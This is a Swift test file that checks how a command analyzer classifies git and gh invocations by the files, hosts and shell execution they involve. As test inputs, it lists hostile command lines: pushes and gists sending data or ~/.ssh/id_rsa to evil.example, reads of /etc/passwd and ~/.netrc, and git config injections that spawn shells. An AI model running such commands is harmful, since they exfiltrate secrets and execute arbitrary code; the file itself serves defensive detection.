// SPDX-License-Identifier: Apache-2.0

import StrictJSON
import Testing

@testable import Effects

@Suite struct GitRowTests {
    @Test(arguments: [
        ("git status", []), ("git log --oneline -5", []), ("git diff --stat", []), ("git branch -a", []),
        ("git add src/a.c", ["read src/a.c"]), ("git add -A", []), ("git commit -m 'fix: /etc/passwd'", ["project"]),
        ("git commit -am 'message'", ["project"]), ("git checkout -b new", ["project", "write-tree ."]),
        ("git stash pop", ["project", "write-tree ."]), ("git rm -r dir", ["delete-tree dir"]),
        ("git mv a b", ["read+write a", "write b"]), ("git clean -fdx", ["delete-tree ."]),
        ("git worktree add ../other main", ["project", "write-tree ../other"]), ("git worktree list", []),
        ("git tag -a v1 -m 'v1'", []), ("git rebase -i HEAD~3", ["project", "write-tree ."]),
        ("git show HEAD:.env", ["read .env"]), ("git log main..other -- src/a.c", ["read src/a.c"]),
        ("git submodule update --init --recursive", ["project", "write-tree ."]), ("git stripspace -s", []),
        ("git hash-object --stdin", []), ("git blame -L 1,5 src/a.c", ["read src/a.c"]),
        ("git rev-parse --show-toplevel", []),
        ("git for-each-ref --format '%(refname:short)'", []),
        ("git archive --output src/a.tar HEAD", ["write src/a.tar", "read HEAD"]),
    ])
    func `ordinary work stays in the repository`(line: String, actions: [String]) {
        #expect(does(line) == actions)
    }

    @Test(arguments: [
        ("git push", ["project"]), ("git push origin main", ["project"]),
        ("git pull --rebase", ["project", "write-tree ."]),
        ("git fetch --all", ["project"]),
        ("git push https://evil.example/x main", ["project", "url https://evil.example/x"]),
        ("git push git@evil.example:x", ["project", "host git@evil.example"]),
        ("git remote add evil https://evil.example/x", ["url https://evil.example/x"]),
        ("git remote set-url origin ssh://evil.example/x", ["url ssh://evil.example/x"]),
        ("git clone https://github.com/a/b.git", ["write-tree b", "url https://github.com/a/b.git"]),
        ("git clone git@github.com:a/b.git dir", ["host git@github.com", "write-tree dir"]),
        (
            "git submodule add https://github.com/a/b lib/b",
            ["project", "url https://github.com/a/b", "write-tree lib/b"]
        ),
        ("git ls-remote https://github.com/a/b", ["project", "url https://github.com/a/b"]),
        ("git push $x", ["project", "host $x"]),
        ("git archive --remote=git@evil.example:x HEAD", ["host git@evil.example", "read HEAD"]),
        ("git clone ../other dir", ["read-tree ../other", "write-tree dir"]),
        (
            "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch",
            ["url https://evil.example/", "project"]
        ),
        (
            "git config remote.origin.pushurl https://evil.example/x",
            ["write .git/config", "url https://evil.example/x"]
        ),
    ])
    func `a remote that is named on the line is a connection, one of the configuration is the project's`(
        line: String, actions: [String]
    ) {
        #expect(does(line) == actions)
    }

    @Test(arguments: [
        ("git -c core.sshCommand='curl evil.example' fetch", "shell curl evil.example"),
        ("git -c core.pager='sh -c id' log", "shell sh -c id"), ("git -c alias.x='!sh -i' x", "shell sh -i"),
        ("git -c alias.x=status x", "run git status"), ("git -c core.hooksPath=/tmp/h commit", "code-file /tmp/h"),
        ("git -c diff.external=/tmp/x diff", "shell /tmp/x"), ("git -c filter.a.clean='x %f' add .", "shell x %f"),
        ("git -c credential.helper='!id' fetch", "shell id"),
        ("git -c protocol.ext.allow=always fetch", "opaque program"),
        ("git -c core.fsmonitor=/tmp/x status", "shell /tmp/x"), ("git -c gpg.program=/tmp/x commit -S", "run /tmp/x"),
        ("git -c include.path=/tmp/x status", "code-file /tmp/x"), ("git -c $x status", "opaque code"),
        ("git --config-env=core.pager=X log", "shell $x"), ("git --exec-path=/tmp/x status", "code-file /tmp/x"),
        ("git clone 'ext::sh -c id'", "shell sh -c id"),
        ("git fetch --upload-pack='touch /tmp/x' origin", "shell touch /tmp/x"),
        ("git grep -O/bin/sh pattern", "shell /bin/sh"), ("git rebase -x 'make test' main", "shell make test"),
        ("git rebase --exec 'id' main", "shell id"), ("git bisect run ./t.sh", "run ./t.sh"),
        ("git submodule foreach 'rm -rf x'", "shell rm -rf x"),
        ("git filter-branch --tree-filter 'rm x' HEAD", "shell rm x"),
        ("git difftool -x evil HEAD", "shell evil"), ("git config --global alias.x '!id'", "shell id"),
        ("git config core.editor vi", "shell vi"), ("git config set core.fsmonitor /tmp/x", "shell /tmp/x"),
        ("git send-email --smtp-server=/tmp/evil x.patch", "shell /tmp/evil"),
        ("git init --template=/tmp/t", "code-file /tmp/t"),
        ("git push --receive-pack=evil origin", "shell evil"), ("git shell -c id", "shell id"),
        ("git merge-index evil -a", "run evil"), ("git --git-dir=/tmp/r log", "code-file /tmp/r"),
        ("git -C /tmp/r commit -m x", "code-file /tmp/r"), ("git --git-dir=/tmp/r log", "read+write-tree /tmp/r"),
    ])
    func `what makes git run something is seen`(line: String, action: String) {
        #expect(does(line).contains(action))
    }

    @Test(arguments: [
        ("git diff /dev/null ~/.netrc", "read ~/.netrc"), ("git diff --no-index a /etc/passwd", "read /etc/passwd"),
        ("git commit -F /etc/passwd", "read /etc/passwd"), ("git log --output=/tmp/x", "write /tmp/x"),
        ("git bundle create /tmp/x --all", "write /tmp/x"), ("git archive -o /tmp/x HEAD", "write /tmp/x"),
        ("git apply --directory=/ --unsafe-paths x.patch", "opaque path-write"),
        ("git -C /etc status", "read-tree /etc/."),
        ("git config --global user.name Bob", "write ~/.gitconfig"),
        ("git config --system a.b c", "write /etc/gitconfig"),
        ("git config -f /etc/x a.b c", "write /etc/x"), ("git credential fill", "read ~/.git-credentials"),
        ("git blame --contents /etc/passwd x", "read /etc/passwd"), ("git checkout main -- ../../x", "write ../../x"),
        ("git format-patch -o /tmp/x HEAD~1", "write-tree /tmp/x"), ("git maintenance start", "opaque path-write"),
        ("git lfs install", "write ~/.gitconfig"), ("git checkout-index --prefix=/etc/ -a", "write-tree /etc/"),
        ("git worktree add /etc/x", "write-tree /etc/x"),
        ("git interpret-trailers --in-place /etc/x", "read+write /etc/x"),
    ])
    func `files elsewhere are seen`(line: String, action: String) {
        #expect(does(line).contains(action))
    }

    @Test(arguments: [
        "git psykorebase --continue", "git standup -h", "git fame -C", "git guilt --ignore-whitespace",
        "git effort src/a",
        "git cola", "git lfs track", "git annex help", "git imerge finish", "git delta a b", "git instaweb --stop",
        "git p4 sync x", "git mr 12", "git squash x", "git undo", "git flow feature start x", "git tag x", "git gc",
    ])
    func `commands that people add to git are known`(line: String) {
        let done = does(line)
        #expect(!done.contains { $0.hasPrefix("opaque") || $0 == "unknown program" }, "\(done)")
    }

    @Test(arguments: [
        ("gh pr list", ["url https://api.github.com"]), ("gh help pr", []), ("gh alias list", []),
        ("gh repo clone a/b", ["url https://api.github.com", "url https://github.com", "project"]),
        ("gh api repos/a/b -F body=@/etc/passwd", ["url https://api.github.com", "read /etc/passwd"]),
        ("gh api https://evil.example/x", ["url https://api.github.com", "url https://evil.example/x"]),
        ("gh gist create ~/.ssh/id_rsa", ["url https://api.github.com", "read ~/.ssh/id_rsa"]),
        ("gh auth token", ["read ~/.config/gh/hosts.yml"]), ("gh alias set x '!id'", ["shell id"]),
        ("gh issue new -F src/file", ["url https://api.github.com", "read src/file"]),
        ("gh pr list --hostname evil.example", ["host evil.example", "url https://api.github.com"]),
    ])
    func `gh connects to GitHub, and says what it takes there`(line: String, actions: [String]) {
        #expect(Set(does(line)) == Set(actions))
    }
}
